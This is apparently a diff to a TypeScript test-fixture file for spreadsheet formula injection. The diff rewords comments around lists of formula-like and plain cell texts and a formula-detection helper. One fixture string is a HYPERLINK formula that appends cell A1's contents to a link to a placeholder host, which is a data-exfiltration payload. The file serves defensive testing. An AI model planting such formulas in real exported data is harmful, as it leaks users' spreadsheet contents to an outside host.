@@ -1,5 +1,4 @@
-// Texts that a spreadsheet would calculate with, carry out or tear apart: each as somebody could type it into
-// a remark.
+// Texts that a spreadsheet would calculate, execute or split, as anyone could type them into a remark.
 export const FORMULA_TEXTS: readonly string[] = [
   '=1+1',
   '=HYPERLINK("http://x.example/?"&A1;"Klick")',
@@ -67,7 +66,7 @@ export const FORMULA_TEXTS: readonly string[] = [
   '=1+1'.repeat(3000),
 ]
 
-/** What no spreadsheet takes for more than a text. */
+/** Texts that every spreadsheet treats as plain text. */
 export const PLAIN_TEXTS: readonly string[] = [
   'Forsthof',
   'a=b',
@@ -86,15 +85,15 @@ export const PLAIN_TEXTS: readonly string[] = [
   '',
 ]
 
-/** Not seen at the beginning of a cell. */
+/** Invisible at the start of a cell. */
 const UNSEEN = new RegExp(
   String.raw`^["\s\u0000-\u0020\u007f-\u00a0\u00ad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f\u2028-\u202f\u205f-\u206f\u2800\u3000\u3164\ud800-\udfff\ufeff\uffa0\ufffe\uffff]+`,
   'u',
 )
 
 /**
- * Does a cell, as a program reads it, begin with anything that could be a formula? Written on its own, apart
- * from the rule that prevents it.
+ * Whether a cell, as a program reads it, starts with anything that could be a formula. Deliberately
+ * independent of the rule that prevents it.
  */
 export function beginsLikeFormula(cell: string): boolean {
   const seen = cell.replace(UNSEEN, '')
